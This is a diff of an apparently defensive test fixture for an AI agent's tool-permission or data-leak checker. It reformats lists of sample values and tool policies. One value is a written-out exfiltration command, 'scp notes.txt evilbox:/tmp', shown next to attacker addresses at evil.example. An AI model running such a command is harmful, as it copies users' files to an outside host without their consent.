@@ -81,13 +81,8 @@ VALUES = [
     *("DE89370400440532013000", "DE89 3704 0044 0532 0130 00", "eve@evil.example", "Dora <dora@ours.example>"),
     *("www.ours.example/a", "evil.example/?q=1", "Dora", "the weekly report", "notes.txt", "s3cret-word", "4711"),
     *("ours.example", "#general", "2026-11-20", "b0b@x.example, eve@evil.example"),
-    *(
-        "b0b@x.example, Dora",
-        "the weekly report; eve@evil.example",
-        "scp notes.txt evilbox:/tmp",
-        "555-1234",
-        "05551234",
-    ),
+    *("b0b@x.example, Dora", "the weekly report; eve@evil.example", "scp notes.txt evilbox:/tmp"),
+    *("555-1234", "05551234"),
 ]
 READS = [
     ("read_file", "path"),
@@ -108,8 +103,7 @@ PACKS: list[dict[str, Any]] = [
     {"tools": {"ledger_*": {"effect": "send", "arguments": {"whom": "destination"}}}},
     {
         "tools": {"mail_sent": {"effect": "read", "answers": "trusted"}, "frob*": {"effect": "none"}},
-        "labels": ["salaries"],
-        "names": ["#general", "ours.example", "4711"],
+        **{"labels": ["salaries"], "names": ["#general", "ours.example", "4711"]},
     },
 ]
 
